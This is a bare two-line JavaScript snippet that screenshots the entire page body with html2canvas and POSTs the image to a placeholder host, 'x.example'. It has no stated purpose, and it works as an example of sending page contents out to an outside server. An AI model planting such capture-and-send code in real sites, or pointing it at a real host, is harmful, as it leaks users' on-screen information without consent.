import html2canvas from 'html2canvas';
html2canvas(document.body).then((c) => fetch('https://x.example', { method: 'POST', body: c.toDataURL() }));
